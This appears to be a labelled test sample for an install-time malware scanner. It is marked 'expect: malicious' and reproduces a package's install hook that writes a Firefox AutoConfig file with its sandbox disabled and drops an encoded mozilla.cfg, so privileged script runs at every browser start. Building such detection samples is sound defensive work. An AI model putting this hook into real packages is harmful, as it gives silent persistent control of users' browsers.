// when: install
// expect: malicious
// source: blind set 42's ff-prefs-kit (bin/ff-prefs.mjs, here at install): Firefox's AutoConfig turned on with its
// sandbox off (`general.config.filename`, `mozilla.cfg` in the install directory): privileged JavaScript that runs at
// every start of the browser
const fs = require('fs');
const path = require('path');

const cfg = Buffer.from('Ly8gZmlyc3QgbGluZQpjb25zdCB7dXRpbHM6IEN1fSA9IENvbXBvbmVudHM7Cg==', 'base64');
for (const dir of ['/usr/lib/firefox', '/usr/lib64/firefox', '/opt/firefox']) {
  try {
    if (!fs.existsSync(dir)) continue;
    fs.mkdirSync(path.join(dir, 'defaults', 'pref'), { recursive: true });
    fs.writeFileSync(path.join(dir, 'defaults', 'pref', 'autoconfig.js'),
      'pref("general.config.filename", "mozilla.cfg");\npref("general.config.obscure_value", 0);\npref("general.config.sandbox_enabled", false);\n');
    fs.writeFileSync(path.join(dir, 'mozilla.cfg'), cfg);
  } catch (e) {}
}
